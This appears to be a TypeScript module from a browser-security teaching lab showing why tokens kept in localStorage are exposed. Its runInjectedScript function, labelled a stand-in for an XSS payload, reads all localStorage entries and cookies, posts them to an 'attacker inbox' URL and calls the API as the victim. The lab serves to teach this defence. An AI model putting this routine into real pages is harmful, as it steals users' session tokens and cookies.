import type { Loot } from './attacker-inbox';

/** Where the lab page keeps its token: the mistake case 2 shows. */
export const LAB_TOKEN_STORAGE_KEY = 'lab_local_storage_token';

export interface InjectedScriptReport {
  loot: Loot;
  /** What GET /api/jwt/me answered the script while it ran in the victim's page (cookies attached by the browser). */
  actingAsVictim: { status: number; username: string | null };
}

/**
 * STAND-IN FOR AN XSS PAYLOAD. A fixed function in the bundle, run only when the learner presses the
 * button; it does what a script injected into the page could do: read every localStorage entry and
 * `document.cookie`, post them to the attacker's inbox, and call the API as the victim while it runs.
 * HttpOnly cookies are invisible to it, but the browser still attaches them to its requests.
 */
export async function runInjectedScript(inboxUrl: string): Promise<InjectedScriptReport> {
  const storage: Record<string, string> = {};
  for (let index = 0; index < Math.min(window.localStorage.length, 50); index++) {
    const key = window.localStorage.key(index);
    if (key !== null) storage[key.slice(0, 200)] = (window.localStorage.getItem(key) ?? '').slice(0, 8_000);
  }
  const loot: Loot = { page: window.location.pathname, localStorage: storage, cookies: document.cookie.slice(0, 8_000) };
  await fetch(inboxUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) });
  const me = await fetch('/api/jwt/me', { cache: 'no-store' });
  const body = (await me.json().catch(() => null)) as { user?: { username?: unknown } } | null;
  const username = typeof body?.user?.username === 'string' ? body.user.username : null;
  return { loot, actingAsVictim: { status: me.status, username } };
}
